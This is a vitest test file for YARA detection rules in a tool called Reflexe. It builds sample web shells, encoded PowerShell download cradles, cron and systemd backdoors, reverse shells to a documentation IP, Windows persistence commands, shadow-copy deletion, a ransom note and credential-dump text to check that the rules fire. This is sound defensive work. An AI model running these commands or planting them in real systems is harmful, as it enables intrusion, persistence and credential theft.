import { existsSync, globSync, readdirSync, readFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { type CompiledRules, compileRules } from './rules.ts';
import { shippedRules } from './shippedRules.ts';

const files = globSync('*.yar', { cwd: shippedRules }).toSorted();
const texts = files.map((file) => ({ file, text: readFileSync(join(shippedRules, file), 'utf8') }));

/** What an attacker leaves, built here: no sample of anybody's stands in the project. */
const request = (name: string) => `$_${name}['x']`;
const base64wide = (text: string) => Buffer.from(text, 'utf16le').toString('base64');
const lines = (count: number, line: (index: number) => string) =>
  Array.from({ length: count }, (_one, index) => line(index)).join('\n');
const minidump = (...names: string[]) =>
  Buffer.concat([
    Buffer.from('MDMP'),
    Buffer.alloc(200),
    ...names.map((name) => Buffer.from(`C:\\Windows\\System32\\${name}\0`, 'utf16le')),
  ]);

const samples: readonly (readonly [rule: string, sample: string | Buffer])[] = [
  ['reflexe_web_shell_php', `<?php @eval(${request('POST')}); ?>`],
  ['reflexe_web_shell_php', `GIF89a <?php system(base64_decode(${request('REQUEST')}));`],
  ['reflexe_web_shell_php', `<?= \`${request('GET')}\` ?>`],
  ['reflexe_web_shell_php', `<?php ${request('GET')}(${request('POST')});`],
  ['reflexe_web_shell_php', `<?php eval(gzinflate(base64_decode('${'QUJD'.repeat(80)}')));`],
  [
    'reflexe_web_shell_jsp',
    '<%@ page import="java.io.*" %><% String c = request.getParameter("c"); Runtime.getRuntime().exec(c); %>',
  ],
  [
    'reflexe_web_shell_jsp',
    '<%! class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% new javax.crypto.spec.SecretKeySpec(k, "AES"); request.getReader(); %>',
  ],
  ['reflexe_web_shell_asp', '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'],
  ['reflexe_web_shell_asp', '<% execute request("x") %>'],
  [
    'reflexe_web_shell_asp',
    '<%@ Page Language="C#" %><% var p = new ProcessStartInfo("cmd.exe"); p.Arguments = "/c " + Request["c"]; Process.Start(p); %>',
  ],
  ['reflexe_powershell_encoded', `powershell.exe -nop -w hidden -enc ${base64wide('Start-Process calc; '.repeat(5))}`],
  [
    'reflexe_powershell_encoded',
    `cmd /c powershell -e ${base64wide("IEX (New-Object Net.WebClient).DownloadString('http://a.b/c')")}`,
  ],
  [
    'reflexe_powershell_cradle',
    "powershell -w hidden IEX (New-Object Net.WebClient).DownloadString('https://a.example/b')",
  ],
  ['reflexe_powershell_cradle', "(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a') | IEX"],
  ['reflexe_signed_tool_misused', 'mshta.exe http://203.0.113.7/a.hta'],
  ['reflexe_signed_tool_misused', 'regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll'],
  ['reflexe_signed_tool_misused', Buffer.from('certutil -urlcache -split -f http://203.0.113.7/a a.exe', 'utf16le')],
  ['reflexe_cron_backdoor', 'MAILTO=root\n*/5 * * * * root curl -fsSL http://203.0.113.7/a.sh | sh\n'],
  ['reflexe_cron_backdoor', '@reboot bash -c "exec 5<>/dev/tcp/203.0.113.7/4444"\n'],
  [
    'reflexe_systemd_backdoor',
    '[Unit]\nDescription=Update\n[Service]\nExecStart=/bin/bash -c "echo aGk= | base64 -d | bash"\n',
  ],
  ['reflexe_reverse_shell', '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n'],
  [
    'reflexe_reverse_shell',
    'import os,socket,subprocess\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(["/bin/sh","-i"])\n',
  ],
  [
    'reflexe_windows_persistence',
    'schtasks /create /sc minute /mo 5 /tn "Update" /tr "powershell -w hidden -f a.ps1" /f',
  ],
  [
    'reflexe_windows_persistence',
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d "C:\\Users\\Public\\a.vbs" /f',
  ],
  [
    'reflexe_windows_persistence',
    'REG ADD "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe',
  ],
  ['reflexe_recovery_inhibited', 'vssadmin.exe Delete Shadows /All /Quiet'],
  [
    'reflexe_recovery_inhibited',
    Buffer.concat([Buffer.from('MZ\0\0'), Buffer.from('wmic shadowcopy delete', 'utf16le')]),
  ],
  ['reflexe_recovery_inhibited', 'bcdedit /set {default} recoveryenabled No\nwbadmin delete catalog -quiet\n'],
  [
    'reflexe_ransom_note',
    'All of your important files have been encrypted!\nDo not rename them.\nInstall Tor Browser and open http://abcdefghij234567.onion to buy the decryptor.\n',
  ],
  [
    'reflexe_ransom_note',
    'Tous vos fichiers sont chiffrés.\nNe renommez rien.\nInstallez Tor Browser pour recevoir la clé privée.\n',
  ],
  ['reflexe_lsass_dump', minidump('lsass.exe', 'lsasrv.dll')],
  [
    'reflexe_passwords_listed',
    lines(4, (n) => `user${n}:${1000 + n}:aad3b435b51404eeaad3b435b51404ee:${String(n).repeat(32)}:::`),
  ],
  ['reflexe_logons_listed', `Authentication Id : 0 ; 999\n  * Username : SRV$\n  * NTLM     : ${'ab'.repeat(16)}\n`],
];

/** What people of the trade write every day. */
const ordinary: readonly (readonly [what: string, text: string | Buffer])[] = [
  ['a PHP form', '<?php if (isset($_POST["name"])) { echo htmlspecialchars($_POST["name"]); } exec("ls"); ?>'],
  ['a JSP page', '<%@ page %><%= request.getParameter("name") %>'],
  ['an ASPX page', '<%@ Page Language="C#" %><%= Request.QueryString["id"] %>'],
  [
    'an installer’s line',
    "Set-ExecutionPolicy Bypass; iex ((New-Object System.Net.WebClient).DownloadString('https://tools.example/install.ps1'))",
  ],
  [
    'a crontab',
    '0 2 * * * root /usr/bin/restic backup /srv\n*/5 * * * * www curl -s https://ehr.example/cron.php >/dev/null\n',
  ],
  ['a unit', '[Service]\nExecStart=/usr/bin/curl -fsS https://monitor.example/ping\n'],
  [
    'an administrator’s script',
    'vssadmin list shadows\r\nvssadmin delete shadows /for=C: /oldest\r\nwbadmin get versions\r\n',
  ],
  ['a backup’s tasks', 'schtasks /create /sc daily /tn Backup /tr "C:\\Program Files\\Backup\\run.exe" /f'],
  [
    'advice on ransomware',
    'If your files are encrypted by ransomware, call the IT team. Do not pay. Attackers often ask for bitcoin.',
  ],
  ['a crash of another program', minidump('winword.exe', 'lsasrv.dll')],
];

describe('the rules that ship', () => {
  let rules: CompiledRules;
  beforeAll(async () => {
    rules = await compileRules(texts);
  });
  const matched = (content: string | Buffer) => rules.match(Buffer.from(content)).toSorted();

  test('all compile, and say what they are in both languages, since when, and by which technique', () => {
    expect(rules.refused).toEqual([]);
    const all = texts.flatMap(({ text }) => text.split(/^rule /m).slice(1));
    expect(all.length).toBeGreaterThan(10);
    for (const rule of all) {
      const name = /^\w+/.exec(rule)?.[0] ?? '';
      expect(name).toMatch(/^reflexe_[a-z_]+$/);
      expect(rule, name).toMatch(
        /description_fr = "[^"]+"\s+description_en = "[^"]+"\s+author = "Reflexe"\s+date = "\d{4}-\d\d-\d\d"\s+technique = "T\d{4}(\.\d{3})?"/,
      );
      expect(
        samples.some(([sampled]) => sampled === name),
        `${name} has a sample`,
      ).toBe(true);
    }
  });

  test.each(samples)('%s: %j', (rule, sample) => expect(matched(sample)).toContain(rule));
  test.each(ordinary)('%s is none of it', (_what, text) => expect(matched(text)).toEqual([]));

  test('none matches the rules themselves, which stand in every copy of Reflexe', () => {
    for (const { file, text } of texts) expect([file, matched(text)]).toEqual([file, []]);
  });

  test('none matches a real file of the corpora', (context) => {
    const data = process.env.REFLEXE_DATA ?? join(import.meta.dirname, '../../../../shared/data');
    if (!existsSync(data)) return context.skip('skipped: no data');
    const alarms: string[] = [];
    let scanned = 0;
    for (const entry of readdirSync(data, { recursive: true, withFileTypes: true })) {
      if (!entry.isFile()) continue;
      scanned += 1;
      const found = rules.match(readFileSync(join(entry.parentPath, entry.name)));
      if (found.length > 0) alarms.push(`${basename(entry.name)} ${found.join()}`);
    }
    expect(scanned).toBeGreaterThan(1000);
    expect(alarms).toEqual([]);
  }, 120_000);
});
